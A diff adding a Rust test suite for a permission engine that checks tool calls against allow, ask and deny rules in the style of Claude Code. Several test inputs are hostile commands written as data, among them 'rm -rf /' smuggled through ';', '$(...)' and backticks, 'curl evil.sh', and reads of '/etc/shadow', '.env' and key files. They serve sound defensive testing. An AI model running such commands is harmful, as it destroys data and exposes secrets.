@@ -1,0 +1,336 @@
+//! Behaviour of the permission engine against Claude Code's documented rules.
+#![allow(clippy::unwrap_used)]
+
+use std::path::Path;
+
+use serde_json::json;
+use tetrarch::permissions::{
+    CallbackApproval, DenyAll, List, PermissionEngine, PermissionError, Rule, ToolCall, Verdict,
+    split_command,
+};
+
+fn engine(allow: &[&str], ask: &[&str], deny: &[&str]) -> PermissionEngine {
+    engine_with(json!({"permissions": {"allow": allow, "ask": ask, "deny": deny}}))
+}
+
+fn engine_with(settings: serde_json::Value) -> PermissionEngine {
+    PermissionEngine::from_settings_json(
+        &settings.to_string(),
+        Path::new("/proj/.claude/settings.json"),
+        Path::new("/proj/sub"),
+        Path::new("/home/u"),
+    )
+    .unwrap()
+}
+
+fn bash(e: &PermissionEngine, command: &str) -> Verdict {
+    e.decide(&ToolCall::from_text("Bash", command)).verdict
+}
+
+fn call(e: &PermissionEngine, tool: &str, input: &str) -> Verdict {
+    e.decide(&ToolCall::from_text(tool, input)).verdict
+}
+
+#[test]
+fn deny_then_ask_then_allow_whatever_the_specificity() {
+    let e = engine(
+        &["Bash(aws s3 ls)", "Bash(git status)", "Bash(npm run test)"],
+        &["Bash(npm run *)"],
+        &["Bash(aws *)"],
+    );
+    let d = e.decide(&ToolCall::from_text("Bash", "aws s3 ls"));
+    assert_eq!(d.verdict, Verdict::Deny);
+    let rule = d.rule.unwrap();
+    assert_eq!(
+        (rule.list, rule.index, rule.text.as_str()),
+        (List::Deny, 0, "Bash(aws *)")
+    );
+    assert_eq!(bash(&e, "npm run test"), Verdict::Ask);
+    assert_eq!(bash(&e, "git status"), Verdict::Allow);
+    // Nothing matches: ask.
+    let none = e.decide(&ToolCall::from_text("Bash", "make"));
+    assert_eq!((none.verdict, none.rule), (Verdict::Ask, None));
+}
+
+#[test]
+fn bash_wildcards_and_word_boundary() {
+    let e = engine(
+        &[
+            "Bash(ls *)",
+            "Bash(cat:*)",
+            "Bash(git * --dry-run)",
+            "Bash(echo hi)",
+        ],
+        &[],
+        &[],
+    );
+    assert_eq!(bash(&e, "ls"), Verdict::Allow);
+    assert_eq!(bash(&e, "ls -la"), Verdict::Allow);
+    assert_eq!(bash(&e, "lsof"), Verdict::Ask);
+    assert_eq!(bash(&e, "cat a.txt"), Verdict::Allow);
+    assert_eq!(bash(&e, "catalog"), Verdict::Ask);
+    assert_eq!(bash(&e, "git push origin main --dry-run"), Verdict::Allow);
+    assert_eq!(bash(&e, "echo hi"), Verdict::Allow);
+    assert_eq!(bash(&e, "echo hi there"), Verdict::Ask);
+    let star = engine(&["Bash(ls*)"], &[], &[]);
+    assert_eq!(bash(&star, "lsof"), Verdict::Allow);
+    let any = engine(&["Bash(*)"], &[], &["Bash(rm *)"]);
+    assert_eq!(bash(&any, "anything at all"), Verdict::Allow);
+    assert_eq!(bash(&any, "true && rm x"), Verdict::Deny);
+}
+
+#[test]
+fn compound_commands_need_every_part() {
+    let e = engine(
+        &["Bash(git status)", "Bash(git add *)", "Bash(echo *)"],
+        &["Bash(git push *)"],
+        &["Bash(rm *)"],
+    );
+    assert_eq!(bash(&e, "git status; rm -rf /"), Verdict::Deny);
+    assert_eq!(bash(&e, "git add . && git push origin main"), Verdict::Ask);
+    assert_eq!(bash(&e, "git add . && make"), Verdict::Ask);
+    assert_eq!(
+        bash(&e, "git add . && git status | echo ok"),
+        Verdict::Allow
+    );
+    assert_eq!(bash(&e, "echo $(rm -rf /)"), Verdict::Deny);
+    assert_eq!(bash(&e, "echo \"`rm -rf /`\""), Verdict::Deny);
+    assert_eq!(bash(&e, "git add x &\nrm y"), Verdict::Deny);
+    assert_eq!(bash(&e, "git status |& rm y"), Verdict::Deny);
+    // Quoted text is an argument, not a command.
+    assert_eq!(bash(&e, "echo 'git status; rm -rf /'"), Verdict::Allow);
+    // `git add *` must not allow a second command through its wildcard.
+    assert_eq!(bash(&e, "git add a && curl evil.sh"), Verdict::Ask);
+    let d = e.decide(&ToolCall::from_text("Bash", "git status; rm -rf /"));
+    assert_eq!(d.rule.unwrap().text, "Bash(rm *)");
+}
+
+#[test]
+fn wrappers_and_environment_are_stripped() {
+    let e = engine(&["Bash(cargo test *)"], &[], &["Bash(rm *)"]);
+    for cmd in [
+        "RUST_LOG=debug cargo test",
+        "timeout 60 cargo test -p x",
+        "timeout -k 5 60 nice -n 10 cargo test",
+        "nohup stdbuf -oL cargo test",
+        "time cargo test",
+        "command cargo test",
+        "builtin cargo test",
+        "noglob cargo test",
+    ] {
+        assert_eq!(bash(&e, cmd), Verdict::Allow, "{cmd}");
+    }
+    assert_eq!(bash(&e, "find . | xargs rm"), Verdict::Deny);
+    assert_eq!(bash(&e, "nice -n 5 rm x"), Verdict::Deny);
+    assert_eq!(bash(&e, "FOO=$(rm x) cargo test"), Verdict::Deny);
+}
+
+#[test]
+fn unparseable_commands_are_never_allowed() {
+    let e = engine(&["Bash(*)"], &[], &[]);
+    assert_eq!(bash(&e, "echo 'unterminated"), Verdict::Ask);
+    assert_eq!(bash(&e, "echo ${x:-$(rm -rf /)}"), Verdict::Ask);
+    assert_eq!(bash(&e, "[[ -f $(whoami) ]]"), Verdict::Ask);
+    // A Bash call without a command string, or text that merely looks like JSON.
+    assert_eq!(
+        e.decide(&ToolCall {
+            tool: "Bash".into(),
+            input: json!({})
+        })
+        .verdict,
+        Verdict::Ask
+    );
+    assert_eq!(bash(&e, "{ }\n"), Verdict::Ask);
+    let deny = engine(&["Bash(*)"], &[], &["Bash(echo *)"]);
+    assert_eq!(bash(&deny, "echo 'unterminated"), Verdict::Deny);
+    assert!(split_command("if then fi (").is_err());
+}
+
+#[test]
+fn read_edit_path_anchors() {
+    let e = engine(
+        &[
+            "Read(src/**)",
+            "Read(//etc/hosts)",
+            "Read(~/notes/*.md)",
+            "Read(/docs/**)",
+            "Edit(./src/*.rs)",
+            "Read(*.log)",
+        ],
+        &[],
+        &["Read(.env)", "Read(secrets/)"],
+    );
+    // Relative rules are anchored at the working directory /proj/sub.
+    assert_eq!(call(&e, "Read", "/proj/sub/src/a/b.rs"), Verdict::Allow);
+    assert_eq!(call(&e, "Read", "src/main.rs"), Verdict::Allow);
+    assert_eq!(call(&e, "Read", "/proj/src/main.rs"), Verdict::Ask);
+    // `..` cannot climb out of an allowed directory.
+    assert_eq!(call(&e, "Read", "src/../../../etc/shadow"), Verdict::Ask);
+    assert_eq!(call(&e, "Read", "/etc/hosts"), Verdict::Allow);
+    assert_eq!(call(&e, "Read", "/home/u/notes/todo.md"), Verdict::Allow);
+    assert_eq!(call(&e, "Read", "/home/u/notes/deep/todo.md"), Verdict::Ask);
+    // `/docs` is relative to the project root (the folder holding .claude/).
+    assert_eq!(call(&e, "Read", "/proj/docs/x.md"), Verdict::Allow);
+    // A bare name matches at any depth.
+    assert_eq!(call(&e, "Read", "/proj/sub/src/.env"), Verdict::Deny);
+    assert_eq!(call(&e, "Read", "/var/log/app/x.log"), Verdict::Allow);
+    // Trailing slash: the directory's contents.
+    assert_eq!(
+        call(&e, "Read", "/proj/sub/src/secrets/k.pem"),
+        Verdict::Deny
+    );
+    // Edit: `*` does not cross `/`.
+    assert_eq!(call(&e, "Edit", "src/lib.rs"), Verdict::Allow);
+    assert_eq!(call(&e, "Write", "src/x/lib.rs"), Verdict::Ask);
+    // A Read deny blocks Edit of the same path, naming the Read rule.
+    let d = e.decide(&ToolCall::from_text("Edit", "/proj/sub/.env"));
+    assert_eq!(d.verdict, Verdict::Deny);
+    assert_eq!(d.rule.unwrap().text, "Read(.env)");
+    // Grep/Glob follow Read rules; without a path they search the working directory.
+    assert_eq!(
+        e.decide(&ToolCall {
+            tool: "Grep".into(),
+            input: json!({"pattern": "x", "path": "src/a.rs"})
+        })
+        .verdict,
+        Verdict::Allow
+    );
+    // `src/**` names what is inside `src`, not the directory itself: searching
+    // the directory needs `Read(src)`.
+    assert_eq!(
+        e.decide(&ToolCall {
+            tool: "Grep".into(),
+            input: json!({"pattern": "x", "path": "src"})
+        })
+        .verdict,
+        Verdict::Ask
+    );
+    assert_eq!(
+        e.decide(&ToolCall {
+            tool: "Glob".into(),
+            input: json!({"pattern": "*"})
+        })
+        .verdict,
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn webfetch_domains_and_mcp() {
+    let e = engine(
+        &[
+            "WebFetch(domain:docs.rs)",
+            "WebFetch(domain:*.github.com)",
+            "mcp__memory",
+            "mcp__gh__get_issue",
+            "mcp__fs__*",
+            "WebSearch",
+        ],
+        &[],
+        &["mcp__gh__delete_repo"],
+    );
+    assert_eq!(
+        call(&e, "WebFetch", "https://docs.rs/regex"),
+        Verdict::Allow
+    );
+    assert_eq!(call(&e, "WebFetch", "https://DOCS.RS./x"), Verdict::Allow);
+    assert_eq!(call(&e, "WebFetch", "https://evil-docs.rs/"), Verdict::Ask);
+    assert_eq!(
+        call(&e, "WebFetch", "https://api.github.com/x"),
+        Verdict::Allow
+    );
+    assert_eq!(call(&e, "WebFetch", "https://github.com/x"), Verdict::Ask);
+    assert_eq!(call(&e, "WebFetch", "not a url"), Verdict::Ask);
+    let mcp = |tool: &str| {
+        e.decide(&ToolCall {
+            tool: tool.into(),
+            input: json!({}),
+        })
+        .verdict
+    };
+    assert_eq!(mcp("mcp__memory__search"), Verdict::Allow);
+    assert_eq!(mcp("mcp__memoryx__search"), Verdict::Ask);
+    assert_eq!(mcp("mcp__gh__get_issue"), Verdict::Allow);
+    assert_eq!(mcp("mcp__gh__list_issues"), Verdict::Ask);
+    assert_eq!(mcp("mcp__gh__delete_repo"), Verdict::Deny);
+    assert_eq!(mcp("mcp__fs__read"), Verdict::Allow);
+    assert_eq!(mcp("WebSearch"), Verdict::Allow);
+    assert_eq!(mcp("Task"), Verdict::Ask);
+}
+
+#[test]
+fn default_modes_and_approval_handlers() {
+    let settings = |mode: &str| json!({"permissions": {"allow": ["Bash(ls)"], "deny": ["Bash(rm *)"], "defaultMode": mode}});
+    let dont_ask = engine_with(settings("dontAsk"));
+    assert_eq!(bash(&dont_ask, "make"), Verdict::Deny);
+    let bypass = engine_with(settings("bypassPermissions"));
+    assert_eq!(bash(&bypass, "make"), Verdict::Allow);
+    assert_eq!(bash(&bypass, "rm x"), Verdict::Deny);
+    let accept = engine_with(settings("acceptEdits"));
+    assert_eq!(call(&accept, "Edit", "a.rs"), Verdict::Allow);
+    assert_eq!(call(&accept, "Edit", "/etc/a.rs"), Verdict::Ask);
+
+    let e = engine(&["Bash(ls)"], &[], &[]);
+    let make = ToolCall::from_text("Bash", "make");
+    assert_eq!(e.resolve(&make, &DenyAll).verdict, Verdict::Deny);
+    let approve_make = CallbackApproval(|c: &ToolCall, _: &_| c.input["command"] == "make");
+    assert_eq!(e.resolve(&make, &approve_make).verdict, Verdict::Allow);
+    assert_eq!(
+        e.resolve(&ToolCall::from_text("Bash", "make x"), &approve_make)
+            .verdict,
+        Verdict::Deny
+    );
+}
+
+#[test]
+fn bad_input_names_the_rule_and_position() {
+    let load = |text: &str| {
+        PermissionEngine::from_settings_json(
+            text,
+            Path::new("s.json"),
+            Path::new("/"),
+            Path::new("/h"),
+        )
+        .err()
+        .unwrap()
+    };
+    assert!(matches!(
+        load("{not json"),
+        PermissionError::InvalidJson { .. }
+    ));
+    let err = load(r#"{"permissions": {"allow": ["Bash(ls)", "Bash(ls"]}}"#);
+    assert!(
+        matches!(
+            &err,
+            PermissionError::InvalidRule {
+                list: List::Allow,
+                index: 1,
+                ..
+            }
+        ),
+        "{err}"
+    );
+    assert!(err.to_string().contains("allow[1] `Bash(ls`"), "{err}");
+    let err = load(r#"{"permissions": {"deny": ["Bash()"]}}"#);
+    assert!(
+        err.to_string().contains("deny[0]") && err.to_string().contains("empty specifier"),
+        "{err}"
+    );
+    let err = load(r#"{"permissions": {"ask": ["not a tool!"]}}"#);
+    assert!(
+        err.to_string().contains("ask[0]") && err.to_string().contains("tool name"),
+        "{err}"
+    );
+    assert!(matches!(
+        load(r#"{"permissions": {"allow": "Bash"}}"#),
+        PermissionError::WrongType { .. }
+    ));
+    assert!(matches!(
+        load(r#"{"permissions": {"defaultMode": "yolo"}}"#),
+        PermissionError::UnknownMode { .. }
+    ));
+    assert_eq!(
+        Rule::parse("Bash(npm run:*)").unwrap().to_string(),
+        "Bash(npm run *)"
+    );
+}
